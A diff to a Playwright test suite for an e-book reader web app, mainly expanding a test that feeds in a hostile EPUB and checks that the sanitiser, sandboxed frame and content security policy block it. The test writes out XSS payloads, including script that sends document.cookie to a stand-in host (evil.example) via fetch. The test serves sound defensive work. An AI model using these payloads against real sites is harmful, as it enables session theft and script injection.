@@ -1,3 +1,4 @@
+import type { Request } from '@playwright/test';
 import { ReadingRoom } from './pages/reading-room.ts';
 import { expectAccessible } from './support/accessibility.ts';
 import { waitForServiceWorker } from './support/network.ts';
@@ -67,33 +68,72 @@ test('a book is read, marked and found again without a network, and on another d
   await tablet.close();
 });
 
-test('a hostile book can run, send, fetch and reach nothing', async ({ page, context }) => {
-  const asked: string[] = [];
-  context.on('request', (request) => asked.push(request.url()));
-  const body = `<p>Harmless words.</p><script>top.stolen = 1; parent.stolen = 1</script>
-    <svg xmlns="http://www.w3.org/2000/svg" onload="top.stolen = 1" width="9" height="9"><script>top.stolen = 1</script></svg>
-    <img src="https://evil.example/pixel.png" onerror="top.stolen = 1" alt=""/><img src="x.png" onerror="top.stolen = 1" alt=""/>
-    <img src="bad.svg" alt="A drawing"/>
-    <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
-    <form action="https://evil.example/send"><input name="n" value="v"/><button>Send</button></form>
-    <a href="javascript:top.stolen=1">A link</a><a href="../../../shelf">Another</a>
-    <style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b.png) }</style>
-    <p style="background: url(https://evil.example/c.png)">More words.</p>`;
-  const drawing = '<svg xmlns="http://www.w3.org/2000/svg" width="5" height="5"><script>top.stolen = 1</script></svg>';
-  const room = new ReadingRoom(page);
-  await room.signIn('Maya');
-  await giveBook(context, oddEpub({ chapters: [body], files: { 'bad.svg': drawing } }));
-  await room.open();
-  await expect(room.book.getByText('Harmless words.')).toBeVisible();
-  await room.book.getByText('A link').click();
-  await room.book.getByText('Another').click();
-  expect(await page.evaluate(() => 'stolen' in window)).toBe(false);
-  expect(await room.book.locator('script, iframe, object, form, input').count()).toBe(0);
-  expect(asked.filter((url) => url.includes('evil.example'))).toEqual([]);
-  expect(page.url()).toMatch(/\/book\/read\//);
-  const frame = await page.request.get('/book-frame.html');
-  expect(frame.headers()['content-security-policy']).toContain("script-src 'none'");
-  expect(await page.locator('main iframe').getAttribute('sandbox')).not.toContain('allow-scripts');
+test.describe('where nothing is left behind', () => {
+  test.use({ data: 'shared' });
+
+  test('a hostile book can run, send, fetch and reach nothing', async ({ page, context, consoleGuard }) => {
+    const [asked, ends]: [string[], (string | undefined)[]] = [[], []];
+    context.on('request', (request) => request.url().includes('evil.example') && asked.push(request.url()));
+    const end = (request: Request) =>
+      request.url().includes('evil.example') && ends.push(request.failure()?.errorText);
+    context.on('requestfailed', end);
+    context.on('requestfinished', end);
+    const theft = `top.stolen = 1; parent.stolen = 1; localStorage.setItem('stolen', document.cookie); indexedDB.open('stolen');
+      fetch('https://evil.example/' + document.cookie); navigator.serviceWorker.register('/x.js')`;
+    const body = `<p>Harmless words.</p><script>${theft}</script>
+      <svg xmlns="http://www.w3.org/2000/svg" onload="top.stolen = 1" width="9" height="9"><script>${theft}</script></svg>
+      <img src="https://evil.example/pixel.png" onerror="top.stolen = 1" alt=""/><img src="x.png" onerror="top.stolen = 1" alt=""/>
+      <img src="bad.svg" alt="A drawing"/>
+      <iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/o"></object>
+      <form action="https://evil.example/send"><input name="n" value="v"/><button>Send</button></form>
+      <a href="javascript:top.stolen=1">A link</a><a href="../../../shelf">Another</a>
+      <style>@import url(https://evil.example/a.css); p { background: url(https://evil.example/b.png) }</style>
+      <p style="background: url(https://evil.example/c.png)">More words.</p>`;
+    const drawing = `<svg xmlns="http://www.w3.org/2000/svg" width="5" height="5"><script>${theft}</script></svg>`;
+    const room = new ReadingRoom(page);
+    await room.signIn('Maya');
+    await giveBook(context, oddEpub({ chapters: [body], files: { 'bad.svg': drawing } }));
+    await room.open();
+    await expect(room.book.getByText('Harmless words.')).toBeVisible();
+    await room.book.getByText('A link').click();
+    await room.book.getByText('Another').click();
+    expect(await room.book.locator('script, iframe, object, form, input').count()).toBe(0);
+    expect(asked).toEqual([]);
+
+    // The second wall, as if the cleaner had let everything through: what stands in the frame is put there whole.
+    consoleGuard.allow(/(?:Content Security Policy|[Ss]andbox)/);
+    await room.book.locator('body').evaluate(
+      (element, markup) => {
+        const { ownerDocument } = element;
+        element.innerHTML = markup;
+        for (const script of element.querySelectorAll('script')) {
+          const live = ownerDocument.createElement('script');
+          live.textContent = script.textContent;
+          script.replaceWith(live);
+        }
+        ownerDocument.head.innerHTML += '<meta http-equiv="refresh" content="0; url=https://evil.example/away">';
+        element.querySelector('form')?.submit();
+        element.querySelector('a')?.click();
+      },
+      body.replace('<a href', '<a target="_top" href'),
+    );
+    await expect(room.book.getByText('Send')).toBeVisible();
+
+    const stolen = await page.evaluate(async () => ({
+      isSet: 'stolen' in window,
+      kept: localStorage.getItem('stolen'),
+      databases: (await indexedDB.databases()).filter(({ name }) => name === 'stolen'),
+      workers: (await navigator.serviceWorker.getRegistrations()).length,
+    }));
+    expect(stolen).toEqual({ isSet: false, kept: null, databases: [], workers: 1 });
+    // Whatever was asked for then never left the browser.
+    await expect.poll(() => ends.length).toBe(asked.length);
+    expect(new Set(ends)).toEqual(new Set(['csp']));
+    expect(page.url()).toMatch(/\/book\/read\//);
+    const frame = await page.request.get('/book-frame.html');
+    expect(frame.headers()['content-security-policy']).toContain("script-src 'none'");
+    expect(await page.locator('main iframe').getAttribute('sandbox')).toBe('allow-same-origin allow-modals');
+  });
 });
 
 test('the copy limit is kept, and what was copied counts', async ({ page, context }) => {
@@ -127,11 +167,7 @@ test('a footnote is shown beside the text, and the look of the page is kept', as
   await room.book.getByRole('link', { name: '1' }).click();
   await expect(page.getByRole('dialog', { name: 'Note' })).toContainText('By the almanac.');
   await room.button('Close').click();
-  await room.button('Text and colours').click();
-  await page.getByRole('radio', { name: 'Dark' }).check();
-  await page.getByRole('radio', { name: 'Scroll' }).check();
-  await room.button('Larger text').click();
-  await room.button('Close').click();
+  await room.choose('Dark', 'Scroll');
   const ground = () => room.book.locator('body').evaluate((body) => getComputedStyle(body).backgroundColor);
   await expect.poll(ground).toBe('rgb(24, 22, 19)');
   await page.reload();
@@ -155,6 +191,9 @@ test('a PDF is read page by page, searched, and opens without a network', async 
   await room.turn();
   await expect(room.position()).toContainText('Page 2');
   await expectAccessible(page);
+  // Its letters are none of its own: they are on the device as well.
+  const letters = () => page.evaluate(async () => (await (await caches.open('pdf-parts')).keys()).length);
+  await expect.poll(letters).toBeGreaterThanOrEqual(14);
   await network.goOffline();
   await page.reload();
   await expect(room.position()).toContainText('Page 2');
